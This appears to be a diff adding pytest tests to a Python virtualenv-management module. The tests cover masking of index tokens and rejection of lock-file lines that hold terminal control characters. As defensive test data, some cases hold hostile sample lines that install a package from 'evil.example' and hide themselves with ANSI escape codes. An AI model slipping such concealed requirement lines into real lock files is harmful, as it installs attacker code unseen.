@@ -8,9 +8,9 @@ import threading
 
 import pytest
 
-from devbox_venv import (Lock, VenvError, check_free_space, converge, diff, install_command, installed_distributions,
-                         installer_env, lock_text, marker_holds, mask_credentials, parse_lock, pip_conf_text, plan,
-                         read_distributions, venv_health)
+from ansible_collections.devbox.machine.plugins.module_utils.devbox_venv import (Lock, VenvError, check_free_space, converge, diff, forget_old_requested, install_command,
+                         installed_distributions, installer_env, load_requested, lock_text, marker_holds,
+                         mask_credentials, parse_lock, pip_conf_text, plan, read_distributions, venv_health)
 
 
 def params(venv, **overrides):
@@ -404,3 +404,73 @@ def test_a_local_or_editable_install_is_left_out_of_the_portable_set(tmp_path):
     assert read_distributions(str(venv))["six"]["direct_url"] is None
     assert installed_distributions(str(venv)) == {"six": "1.16.0", "mytool": "0.1.0"}
     assert installed_distributions(str(venv), portable_only=True) == {"six": "1.16.0"}
+
+
+# Issue 24, finding 4: the token-only forms (Gemfury, Azure) carry the secret as the user name.
+@pytest.mark.parametrize("url, shown", [
+    ("https://sometoken:@pypi.org/simple", "https://********:@pypi.org/simple"),
+    ("https://sometoken@pypi.org/simple", "https://********@pypi.org/simple"),
+    ("https://user:sometoken@pypi.org/simple", "https://user:********@pypi.org/simple"),
+    ("pkg @ git+https://sometoken@github.com/org/pkg@v1", "pkg @ git+https://********@github.com/org/pkg@v1"),
+    ("pkg @ git+ssh://git@github.com/org/pkg@v1", "pkg @ git+ssh://git@github.com/org/pkg@v1"),
+    ("https://pypi.org/simple", "https://pypi.org/simple"),
+    ("pkg @ https://files.example/pkg-1.0.tar.gz#sha256=ab", "pkg @ https://files.example/pkg-1.0.tar.gz#sha256=ab"),
+])
+def test_token_only_index_urls_are_masked(url, shown):
+    assert mask_credentials(url) == shown
+    assert "sometoken" not in mask_credentials(f"failed: {url} (see {url})")
+
+
+def test_the_machines_lock_never_holds_an_index_token(tmp_path):
+    venv, site = fake_venv(tmp_path)
+    write_dist(site, "six", "1.16.0")
+    settings = {"index_url": "https://sometoken:@pypi.org/simple",
+                "extra_index_urls": ["https://othertoken@pkgs.dev.azure.com/org/_packaging/feed/pypi/simple"]}
+    text = lock_text(str(venv), settings, {"six": []})
+    assert "# index: https://********:@pypi.org/simple\n" in text
+    assert "# extra index: https://********@pkgs.dev.azure.com/org/_packaging/feed/pypi/simple\n" in text
+    assert "sometoken" not in text and "othertoken" not in text
+
+
+# Issue 24, finding 3: a lock line can hide itself on a terminal (\x1b[8m: hidden text, \x1b[2K: erase line).
+@pytest.mark.parametrize("hidden", ["evil @ https://evil.example/evil.tar.gz#\x1b[2K\x1b[1A",
+                                    "evil @ https://evil.example/evil.tar.gz\x1b[8m",
+                                    "\x1b[8mevil @ https://evil.example/evil.tar.gz\x1b[0m",
+                                    "six==1.16.0\r", "six==1.16.0\x85", "six==1.16.0\u202e"])
+def test_a_lock_line_with_control_characters_is_refused_before_anything_is_installed(tmp_path, hidden):
+    venv = tmp_path / "venv"
+    lock = f"# python: {this_python()}\nsix==1.16.0\n{hidden}\n"
+    with pytest.raises(VenvError) as refused:
+        converge(params(venv, lock_text=lock, lock_name="locks/shared.lock"))
+    message = str(refused.value)
+    assert message.startswith("locks/shared.lock line 3: ") and "control character" in message
+    assert repr(hidden) in message and hidden not in message, "the line is shown escaped"
+    assert not venv.exists(), "nothing was installed"
+    with pytest.raises(VenvError, match="control character"):
+        plan(params(venv, lock_text=lock))
+
+
+def test_the_locks_url_requirements_are_listed_masked(tmp_path):
+    lock = "pkg @ https://sometoken@files.example/pkg-1.0.tar.gz\nsix==1.16.0\n"
+    assert plan(params(tmp_path / "venv", lock_text=lock))["url_requirements"] == [
+        "pkg @ https://********@files.example/pkg-1.0.tar.gz"]
+
+
+def test_the_machines_lock_never_carries_a_hidden_line(tmp_path):
+    venv, site = fake_venv(tmp_path)
+    write_dist(site, "six", "1.16.0")
+    write_dist(site, "evil\x1b[8m", "1.0")
+    text = lock_text(str(venv), {}, {"six": []})
+    assert "\x1b" not in text and "# not locked: 'evil\\x1b[8m==1.0' holds a control character" in text
+
+
+def test_the_requested_list_is_roots_and_the_venvs_old_one_moves_over(tmp_path):
+    venv = tmp_path / "venv"
+    venv.mkdir()
+    (venv / "devbox-requested.json").write_text(json.dumps({"tabulate": [], "Six": ["x"], "bad name": [], "n": 3}))
+    # A machine without root's record yet: the venv's old list is moved over (read as data: junk dropped).
+    assert load_requested(str(venv), {"requested": None}) == {"tabulate": [], "six": ["x"]}
+    # With root's record, whatever the user writes in the venv is not read, and the old file goes.
+    assert load_requested(str(venv), {"requested": {"six": []}}) == {"six": []}
+    forget_old_requested(str(venv), {"requested": {"six": []}})
+    assert not (venv / "devbox-requested.json").exists()
